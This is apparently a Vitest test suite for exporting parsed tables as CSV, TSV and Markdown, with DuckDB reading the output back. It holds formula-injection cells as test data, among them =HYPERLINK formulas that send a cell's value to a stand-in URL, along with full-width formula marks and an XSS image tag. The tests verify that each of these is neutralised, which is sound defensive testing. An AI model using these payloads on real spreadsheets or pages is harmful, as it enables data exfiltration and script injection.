import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spreadsheetText } from "../../../src-main/contract/spreadsheetText.ts";
import { type ParsedTable, type TableCell, type TableRow } from "../../../src-main/contract/tables.ts";
import { columnHeadings, gridRows, tableGrid } from "../../../src-main/contract/tableGrid.ts";
import { tableCsv, tableMarkdown, tableTsv } from "../../../src-main/contract/tableText.ts";
import { gridSize, tableName, tablePages, tableSize } from "../../../src-main/contract/tableWords.ts";
import { duckdb, sqlPath } from "../../support/duckdbReader.ts";
import { writeTablePaper } from "../../support/tablePaper.ts";
import { tempDirForSuite } from "../../support/tempDir.ts";

// Copying a table: the CSV read back by a real CSV reader (DuckDB) gives the cells, with those a
// spreadsheet would run as formulas made text; TSV pastes into a sheet cell by cell; Markdown has
// its pipes escaped and the header levels joined.

const cell = (text: string, colSpan = 1, rowSpan = 1): TableCell => ({ text, box: null, colSpan, rowSpan });
const row = (...cells: TableCell[]): TableRow => ({ kind: "body", cells });

/** Cells that break a naive writer, and cells a spreadsheet would run. */
const awkward: ParsedTable = {
  label: "Table 4",
  caption: "Odd cells | kept",
  page: 2,
  pages: [2, 3],
  boxes: [{ page: 2, x: 0, y: 0, w: 10, h: 10 }],
  kind: "text",
  rotated: false,
  ruling: "grid",
  header: [row(cell("Item", 1, 2), cell("Effect", 2)), row(cell("OR"), cell("P | adj."))],
  rows: [
    row(cell('Smith, "Jr."'), cell("-0.52"), cell("=HYPERLINK(\"http://x?d=\"&A2)")),
    row(cell("line one\nline two"), cell("+AB"), cell("@SUM(1)")),
    row(cell("semi;colon"), cell("-"), cell("\ttabbed")),
    { kind: "subheading", cells: [cell("Subgroup", 3)] },
    row(cell("Ünïcödé I² (%)"), cell(""), cell("1,024")),
  ],
  footnotes: ["a Adjusted for age.", "*P < .05"],
  doubts: [],
};

let reader: Awaited<ReturnType<typeof duckdb>>;
let dir: string;
let printed: ParsedTable[];
beforeAll(async () => {
  reader = await duckdb();
  dir = tempDirForSuite();
  printed = await writeTablePaper(path.join(dir, "tables.pdf"));
});
afterAll(() => reader.close());

/** The rows DuckDB reads from a file, every value as text ("" for an empty field). */
async function readBack(text: string, name: string, options: string): Promise<string[][]> {
  const file = path.join(dir, name);
  fs.writeFileSync(file, text);
  const rows = await reader.rows(`SELECT * FROM read_csv(${sqlPath(file)}, header = false, all_varchar = true, auto_detect = false, ${options})`);
  return rows.map((r) => Object.values(r).map((v) => (v === null ? "" : String(v))));
}

/** What a spreadsheet cell holds for each grid cell: the text, made safe. */
const safeGrid = (table: ParsedTable) => [columnHeadings(table), ...gridRows(table.rows)].map((r) => r.map(spreadsheetText));

describe("a table as CSV, TSV and Markdown", () => {
  it("writes CSV that a CSV reader reads back as the cells: quotes, commas, line breaks and semicolons intact, formulas made text", async () => {
    const csv = tableCsv(awkward);
    expect(csv.endsWith("\r\n")).toBe(true);
    const columns = "columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR'}, delim = ',', quote = '\"', escape = '\"', strict_mode = true";
    const rows = await readBack(csv, "awkward.csv", columns);
    expect(rows).toEqual(safeGrid(awkward));
    expect(rows[0]).toEqual(["Item", "Effect / OR", "Effect / P | adj."]);
    expect(rows[1]).toEqual(['Smith, "Jr."', "-0.52", "'=HYPERLINK(\"http://x?d=\"&A2)"]);
    expect(rows[2]).toEqual(["line one\nline two", "'+AB", "'@SUM(1)"]);
    expect(rows[3]).toEqual(["semi;colon", "'-", "'\ttabbed"]);
    expect(rows[4]).toEqual(["Subgroup", "", ""]);
  });

  it("writes the generated paper's Table 1 as 24 lines of 12 fields: the header levels in one line, every study's cells", async () => {
    const table = printed[0]!;
    const names = Array.from({ length: 12 }, (_, i) => `'c${i}': 'VARCHAR'`).join(", ");
    const rows = await readBack(tableCsv(table), "table1.csv", `columns = {${names}}, delim = ',', quote = '"', escape = '"', strict_mode = true`);
    expect(rows).toHaveLength(24);
    expect(rows[0]).toEqual(["Study", "Year", "Country", "Method", "Cases / n", "Cases / GG", "Cases / GA", "Cases / AA", "Controls / n", "Controls / GG", "Controls / GA", "Controls / AA"]);
    expect(rows[6]).toEqual(["Pérez-García", "2003", "Spain", "PCR-RFLP", "142", "'-", "'-", "'-", "160", "'-", "'-", "'-"]);
    expect(rows[13]).toEqual(["Silva, Costa", "2008", "Portugal", "TaqMan", "178", "69", "85", "24", "190", "74", "90", "26"]);
    expect(rows.map((r) => r[0])).toContain("Asian populations");
  });

  it("writes TSV that reads back cell by cell, with tabs and line breaks inside a cell as spaces", async () => {
    const tsv = tableTsv(awkward);
    const rows = await readBack(tsv, "awkward.tsv", "columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR'}, delim = '\t', quote = '', escape = ''");
    const expected = [columnHeadings(awkward), ...gridRows(awkward.rows)].map((r) => r.map((text) => spreadsheetText(text).replace(/[\t\r\n]+/g, " ")));
    expect(rows).toEqual(expected);
    expect(rows[2]![0]).toBe("line one line two");
    expect(rows[3]![2]).toBe("' tabbed");
  });

  it("writes TSV whose ditto marks and quoted terms read back cell by cell where a quote opens a quoted field, as in a spreadsheet", async () => {
    // A lone ditto mark read as opening a quoted field took the rest of its row and the next rows into one cell.
    const table = { header: [row(cell("Drug"), cell("Dose"), cell("Route"))], rows: [row(cell("A"), cell("10 mg"), cell("oral")), row(cell("B"), cell('"'), cell('"')), row(cell('"C" form'), cell('" "'), cell('say "x"'))] };
    const columns = "columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR'}, delim = '\t', quote = '\"', escape = '\"', strict_mode = true";
    const rows = await readBack(tableTsv(table), "ditto.tsv", columns);
    expect(rows).toEqual([["Drug", "Dose", "Route"], ["A", "10 mg", "oral"], ["B", '"', '"'], ['"C" form', '" "', 'say "x"']]);
    // Only a field that starts with a quote is quoted; one holding a quote inside is left as it is.
    expect(tableTsv(table).split("\n")[3]).toBe('"""C"" form"\t""" """\tsay "x"');
  });

  it("writes Markdown with the caption above, pipes escaped, the header levels joined and footnotes under it", () => {
    const md = tableMarkdown(awkward);
    const lines = md.trimEnd().split("\n");
    expect(lines[0]).toBe("**Table 4.** Odd cells \\| kept");
    const tableLines = lines.filter((l) => l.startsWith("|"));
    // A GitHub table row splits at pipes that are not escaped.
    const cellsOf = (line: string) => line.slice(1, -1).split(/(?<!\\)\|/).map((c) => c.trim().replace(/\\\|/g, "|").replace(/\\\\/g, "\\"));
    expect(tableLines.map(cellsOf)).toEqual([
      ["Item", "Effect / OR", "Effect / P | adj."],
      ["---", "---", "---"],
      ['Smith, "Jr."', "-0.52", '=HYPERLINK("http://x?d="&A2)'],
      ["line one line two", "+AB", "@SUM(1)"],
      ["semi;colon", "-", "tabbed"],
      ["Subgroup", "", ""],
      ["Ünïcödé I² (%)", "", "1,024"],
    ]);
    expect(md.trimEnd().endsWith("a Adjusted for age.\n\n*P < .05")).toBe(true);
  });

  it("keeps a hostile cell's HTML and a footnote's leading mark as text where the Markdown is shown", () => {
    const hostile: ParsedTable = {
      ...awkward,
      label: null,
      caption: "<!-- the rest of the page is hidden",
      header: [row(cell("Sample"), cell("Value"))],
      rows: [
        row(cell('<img src=x onerror="alert(1)">'), cell("<0.001")),
        row(cell("<LOD"), cell("&lt;b&gt; &amp; c")),
        row(cell("a <!-- b"), cell("x -->")),
      ],
      footnotes: ["* P < 0.05", "- not reported", "# of cases", "> 60 years", "```", "<div>all that follows</div>", "a Adjusted."],
    };
    const lines = tableMarkdown(hostile).trimEnd().split("\n");
    // CommonMark: a `<` before a letter, `/`, `!` or `?` with a `>` later opens a tag or a comment;
    // `&name;` is an entity. Escaped with a backslash, each shows as the character itself.
    const markup = /(?<!\\)<[A-Za-z/!?][^]*>|(?<!\\)&#?[A-Za-z0-9]+;/;
    // GitHub splits a row at unescaped pipes first and reads each cell on its own.
    const pieces = lines.flatMap((line) => (line.startsWith("|") ? line.slice(1, -1).split(/(?<!\\)\|/) : [line]));
    for (const piece of pieces) expect(piece, piece).not.toMatch(markup);
    expect(lines[0]).toBe("\\<!-- the rest of the page is hidden");
    expect(lines).toContain('| \\<img src=x onerror="alert(1)"> | <0.001 |');
    expect(lines).toContain("| <LOD | \\&lt;b\\&gt; \\&amp; c |");
    // A paragraph that starts with a list, heading, quote or fence mark would lose the mark (or the rest).
    const notes = lines.slice(lines.findIndex((l) => l.startsWith("| a ")) + 1).filter((l) => l !== "");
    expect(notes).toEqual(["\\* P < 0.05", "\\- not reported", "\\# of cases", "\\> 60 years", "\\```", "\\<div>all that follows\\</div>", "a Adjusted."]);
    for (const note of notes) expect(note).not.toMatch(/^(?:[#>*+-]\s|`{3}|<[A-Za-z])/);
  });

  it("makes a cell starting with a line feed text in CSV and TSV, and keeps a 100,000-character cell whole", async () => {
    const long = `=${"x".repeat(99_999)}`;
    const table: ParsedTable = { ...awkward, header: [], rows: [row(cell("plain"), cell("b"), cell("c")), row(cell("\n=1+1"), cell(long), cell("<a".repeat(50_000)))] };
    const columns = "columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR'}";
    const csv = await readBack(tableCsv(table), "long.csv", `${columns}, delim = ',', quote = '"', escape = '"', strict_mode = true, max_line_size = 1000000`);
    expect(csv[1]!.slice(0, 2)).toEqual(["'\n=1+1", `'${long}`]);
    const tsv = await readBack(tableTsv(table), "long.tsv", `${columns}, delim = '\t', quote = '', escape = '', max_line_size = 1000000`);
    expect(tsv[1]![0]).toBe("' =1+1");
    const md = tableMarkdown(table);
    // No `>` follows, so no `<` in the long cell opens a tag: it is printed as it is.
    expect(md).toContain(` | ${"<a".repeat(50_000)} |`);
  });

  // OWASP's CSV Injection list: the full-width marks may start a formula in Japanese locales.
  it("makes a cell starting with a full-width formula mark text in CSV and TSV", async () => {
    const marks = ["\uff1dHYPERLINK(\"http://x.invalid/?d=\"&B2)", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)"];
    const table: ParsedTable = { ...awkward, header: [], rows: [row(cell("a"), cell("b"), cell("c"), cell("d")), row(...marks.map((text) => cell(text)))] };
    const columns = "columns = {'a': 'VARCHAR', 'b': 'VARCHAR', 'c': 'VARCHAR', 'd': 'VARCHAR'}";
    const csv = await readBack(tableCsv(table), "wide.csv", `${columns}, delim = ',', quote = '"', escape = '"', strict_mode = true`);
    expect(csv[1]).toEqual(marks.map((text) => `'${text}`));
    const tsv = await readBack(tableTsv(table), "wide.tsv", `${columns}, delim = '\t', quote = '', escape = ''`);
    expect(tsv[1]).toEqual(marks.map((text) => `'${text}`));
    // Full-width letters and digits inside a cell are left as they are.
    expect(spreadsheetText("\uff21\uff11 \uff1d 2")).toBe("\uff21\uff11 \uff1d 2");
  });

  it("gives a table with no header an empty header line, and one printed as a picture a line saying its cells cannot be read", () => {
    expect(tableMarkdown({ ...awkward, label: null, caption: null, header: [], rows: [row(cell("a"), cell("b"))], footnotes: [] })).toBe("|  |  |\n| --- | --- |\n| a | b |\n");
    expect(tableCsv({ header: [], rows: [row(cell("a"), cell("b"))] })).toBe("a,b\r\n");
    const image = printed[1]!;
    expect(tableMarkdown(image)).toBe("**Table 2.** Haplotype frequencies in cases and controls (as printed, a scanned image)\n\n_Printed as a picture: its cells cannot be read._\n");
    expect(tableCsv(image)).toBe("");
  });

  it("names and sizes tables in words", () => {
    // Its 23 body rows include "Caucasian populations" and "Asian populations": a reader counting studies finds 21.
    expect(tableSize(printed[0]!)).toBe("21 rows × 12 columns, in 2 groups");
    expect(gridSize(tableGrid(printed[0]!))).toBe("21 rows × 12 columns, in 2 groups");
    expect(tableSize({ header: [], rows: [row(cell("only"))] })).toBe("1 row × 1 column");
    expect(gridSize({ header: [["a", "b"]], rows: [["1", "2"]], groupLabelRows: [] })).toBe("1 row × 2 columns");
    // Rows above the first label are not said to be in a group.
    const label = (text: string) => ({ ...row(cell(text, 2)), kind: "subheading" as const });
    expect(tableSize({ header: [], rows: [row(cell("a"), cell("1")), label("Men"), row(cell("b"), cell("2")), row(cell("c"), cell("3"))] })).toBe(
      "3 rows × 2 columns, 2 of them in 1 group",
    );
    expect(tableName({ label: null }, 2)).toBe("Unlabelled table (no. 3)");
    expect(tablePages(awkward)).toBe("pages 2–3");
    expect(tablePages(printed[0]!)).toBe("page 1");
  });
});
